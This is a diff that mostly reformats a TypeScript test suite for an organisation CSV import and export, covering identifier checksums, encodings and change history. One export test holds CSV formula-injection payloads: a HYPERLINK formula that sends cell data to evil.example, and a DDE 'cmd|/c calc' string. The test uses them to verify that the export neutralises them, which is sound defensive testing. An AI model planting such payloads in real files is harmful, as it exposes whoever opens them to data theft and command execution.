@@ -21,7 +21,8 @@ function failed(r: ImportReport) {
   if (r.ok) throw new Error('expected a refusal, got ' + JSON.stringify(r));
   return r;
 }
-const run = (bytes: Uint8Array, fileName = 'orgs.csv', tid = territoryId) => importOrganisations(t.db, { territoryId: tid, bytes, fileName, actor });
+const run = (bytes: Uint8Array, fileName = 'orgs.csv', tid = territoryId) =>
+  importOrganisations(t.db, { territoryId: tid, bytes, fileName, actor });
 
 beforeAll(async () => {
   t = await createTestDb();
@@ -38,12 +39,36 @@ describe('import: all or nothing', () => {
   });
 
   it.each([
-    ['duplicate ИНН', () => [org(10), org(11, { ИНН: org(10)[3]! })], { line: 3, column: 'ИНН', re: /повторяется.*строке 2/ }],
-    ['wrong ИНН checksum', () => [org(10), org(11, { ИНН: '7707083894' })], { line: 3, column: 'ИНН', re: /контрольной/ }],
-    ['wrong ОГРН checksum', () => [org(10, { ОГРН: '1027700132194' }), org(11)], { line: 2, column: 'ОГРН', re: /контрольной/ }],
-    ['unknown type', () => [org(10), org(11, { Тип: 'университет' })], { line: 3, column: 'Тип', re: /неизвестный тип «университет»/ }],
-    ['empty full name', () => [org(10, { 'Полное наименование': '   ' }), org(11)], { line: 2, column: 'Полное наименование', re: /не заполнено/ }],
-    ['empty short name', () => [org(10), org(11, { 'Краткое наименование': '' })], { line: 3, column: 'Краткое наименование', re: /не заполнено/ }],
+    [
+      'duplicate ИНН',
+      () => [org(10), org(11, { ИНН: org(10)[3]! })],
+      { line: 3, column: 'ИНН', re: /повторяется.*строке 2/ },
+    ],
+    [
+      'wrong ИНН checksum',
+      () => [org(10), org(11, { ИНН: '7707083894' })],
+      { line: 3, column: 'ИНН', re: /контрольной/ },
+    ],
+    [
+      'wrong ОГРН checksum',
+      () => [org(10, { ОГРН: '1027700132194' }), org(11)],
+      { line: 2, column: 'ОГРН', re: /контрольной/ },
+    ],
+    [
+      'unknown type',
+      () => [org(10), org(11, { Тип: 'университет' })],
+      { line: 3, column: 'Тип', re: /неизвестный тип «университет»/ },
+    ],
+    [
+      'empty full name',
+      () => [org(10, { 'Полное наименование': '   ' }), org(11)],
+      { line: 2, column: 'Полное наименование', re: /не заполнено/ },
+    ],
+    [
+      'empty short name',
+      () => [org(10), org(11, { 'Краткое наименование': '' })],
+      { line: 3, column: 'Краткое наименование', re: /не заполнено/ },
+    ],
   ])('a file with %s changes nothing and names line and column', async (_name, rows, expected) => {
     const before = await orgCount();
     const [auditBefore] = await t.db.select({ n: count() }).from(auditLog);
@@ -102,7 +127,10 @@ describe('import: what offices produce', () => {
   it('reads Windows-1251 with semicolons and dd.mm.yyyy dates', async () => {
     const r = await run(cp1251(csv([org(50, { 'Дата последней оценки': '15.03.2022' })])));
     expect(r).toMatchObject({ ok: true, created: 1, encoding: 'Windows-1251' });
-    const [o] = await t.db.select().from(organisations).where(eq(organisations.inn, org(50)[3]!));
+    const [o] = await t.db
+      .select()
+      .from(organisations)
+      .where(eq(organisations.inn, org(50)[3]!));
     expect(o?.fullName).toContain('«Школа № 50»');
     expect(o?.lastAssessedOn).toBe('2022-03-15');
   });
@@ -110,7 +138,10 @@ describe('import: what offices produce', () => {
   it('reads UTF-8 with BOM and commas', async () => {
     const r = await run(utf8Bom(csv([org(51, { Адрес: 'г. Примерск, ул. Ленина, 5' })], ',')));
     expect(r).toMatchObject({ ok: true, created: 1, encoding: 'UTF-8 (BOM)' });
-    const [o] = await t.db.select().from(organisations).where(eq(organisations.inn, org(51)[3]!));
+    const [o] = await t.db
+      .select()
+      .from(organisations)
+      .where(eq(organisations.inn, org(51)[3]!));
     expect(o?.address).toBe('г. Примерск, ул. Ленина, 5');
   });
 
@@ -142,7 +173,10 @@ describe('re-import and history', () => {
     const r = await run(utf8(csv([org(1, { Руководитель: 'Петров П. П.' }), org(2)])));
     expect(r).toMatchObject({ ok: true, created: 0, updated: 1, unchanged: 1 });
     expect(await orgCount()).toBe(before);
-    const [o] = await t.db.select().from(organisations).where(eq(organisations.inn, org(1)[3]!));
+    const [o] = await t.db
+      .select()
+      .from(organisations)
+      .where(eq(organisations.inn, org(1)[3]!));
     const history = await t.db.select().from(organisationHistory).where(eq(organisationHistory.organisationId, o!.id));
     expect(history).toHaveLength(2);
     const update = [...history].sort((a, b) => a.id - b.id)[1];
@@ -168,7 +202,9 @@ describe('export', () => {
     const payload = '=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")';
     const r = await run(utf8(csv([org(70, { Руководитель: payload, Учредитель: '@SUM(1+1)*cmd|/c calc' })])));
     expect(r.ok).toBe(true);
-    const csvOut = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await exportOrganisations(t.db, 'csv', [territoryId]));
+    const csvOut = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
+      await exportOrganisations(t.db, 'csv', [territoryId]),
+    );
     expect(csvOut.startsWith('\uFEFF')).toBe(true);
     expect(csvOut).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Нажмите"")"`);
     expect(csvOut).toContain("'@SUM(1+1)*cmd|/c calc");
